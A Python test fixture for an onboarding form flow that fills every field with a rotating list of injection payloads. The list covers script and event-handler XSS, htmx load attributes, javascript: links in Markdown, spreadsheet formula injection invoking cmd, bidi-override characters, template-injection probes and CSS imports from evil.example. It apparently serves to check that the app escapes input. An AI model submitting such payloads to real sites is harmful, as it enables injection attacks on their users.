"""Answers that try to act: as scripts, htmx attributes, Markdown, formulas, templates, styles and writing directions.

A flow whose samples they are: each text is filled to its limit, and begins at another place of the list than the last.
"""

from collections.abc import Callable, Mapping
from dataclasses import replace
from itertools import count
from typing import Any

from onboarding.business.flow import flow as business_flow
from tests.context.filled import Filled

Json = Any
PAYLOADS = (
    # Scripts, out of every place that a text can stand in
    '"><script>evil()</script>',
    "'><script src=//evil.example></script>",
    "</textarea><script>evil()</script>",
    "</title><svg onload=evil()>",
    "</script><script>evil()</script>",
    "--><script>evil()</script><!--",
    "]]><script>evil()</script>",
    "<svg><script>evil()</script></svg>",
    "<img src=/evil onerror=evil()>",
    '" autofocus onfocus=evil() x="',
    "' onpointerenter=evil() x='",
    "'onload=evil()'",
    '<a href="javascript:evil()">x</a>',
    "javascript:evil()",
    "&lt;script&gt;evil()&lt;/script&gt;",
    '<iframe srcdoc="<script>evil()</script>">',
    "<object data=/evil><embed src=/evil>",
    "<form action=/evil><button formaction=/evil>x",
    "<base href=//evil.example>",
    '<meta http-equiv=refresh content="0;url=/evil">',
    # htmx
    "<b hx-get=/evil>",
    "<div hx-get=/evil hx-trigger=load>",
    "<div data-hx-get=/evil data-hx-trigger=load>",
    '" hx-get="/evil" hx-trigger="load',
    '" data-hx-post="/evil" data-hx-trigger="load',
    '<div hx-on::load="evil()" hx-on:htmx:load="evil()">',
    '<div hx-get=/evil hx-trigger=load hx-vals="js:{a:evil()}">',
    "<div hx-ext=evil sse-connect=/evil ws-connect=/evil>",
    # Markdown
    "[x](javascript:evil())",
    "![x](https://evil.example/x.png)",
    "<https://evil.example>",
    "`</code><script>evil()</script>`",
    # Formulas
    '=HYPERLINK("http://evil.example")',
    "@SUM(1+1)*cmd|evil",
    "+cmd|'/C evil'!A0",
    "-2+3+cmd|evil",
    # Writing directions
    "\u202egnp.live\u202c",
    "\u2067<b>\u2069\u200f\u200e",
    # Templates
    "{{ evil() }}",
    "{% evil %}",
    "${evil()}",
    "#{evil()}",
    "<%= evil() %>",
    "{{7*7}}[[7*7]]",
    # Styles
    '</style><style>@import "//evil.example"</style>',
    "<link rel=stylesheet href=//evil.example>",
    '" style="background:url(/evil)',
    "};*{background:url(//evil.example)}",
)


def words(first: int) -> Callable[[str, Any], str]:
    """As many of them as the field takes, and a number, since names have to differ."""
    numbers = count(first)

    def fill(name: str, field: Any) -> str:
        number = next(numbers)
        at, room = number % len(PAYLOADS), field.flags.maxlength - len(f" {number}")
        text = ""
        for payload in (*PAYLOADS[at:], *PAYLOADS[:at]):
            longer = f"{text} {payload}".lstrip()
            text = longer if len(longer) <= room else text
        return f"{text} {number}"

    return fill


def _with_addresses(value: Json) -> Json:
    """Web and email addresses with as much of it as an address takes."""
    if isinstance(value, str) and value.startswith("https://example.com/"):
        return f"{value}\"><script>evil()</script>'onload='evil()"
    if isinstance(value, str) and value.endswith("@example.com"):
        return f"'onload='evil`1`'{value}"
    if isinstance(value, list):
        return [_with_addresses(item) for item in value]
    return {name: _with_addresses(item) for name, item in value.items()} if isinstance(value, dict) else value


def answers(first: int) -> Mapping[int, dict[str, Json]]:
    """To every field of every step."""
    filled = Filled(business_flow, words(first), industry="other", rank="primary").answers
    for row, share in zip(filled[9]["revenue_streams"], ("40", "60"), strict=True):
        row["share"] = share
    for row in filled[20]["channels"]:
        row["budget_share"] = "50"
    filled[21] |= {"tam": "9", "sam": "8", "som": "7"}
    return {number: _with_addresses(data) for number, data in filled.items()}


def texts(value: Json) -> list[str]:
    """The texts in answers that were made here."""
    if isinstance(value, dict):
        return [text for inner in value.values() for text in texts(inner)]
    if isinstance(value, list):
        return [text for inner in value for text in texts(inner)]
    return [value] if isinstance(value, str) and any(payload in value for payload in PAYLOADS) else []


SAMPLES = {"hostile": lambda: answers(0), "other": lambda: answers(len(PAYLOADS) // 2)}
flow = replace(business_flow, samples=SAMPLES)
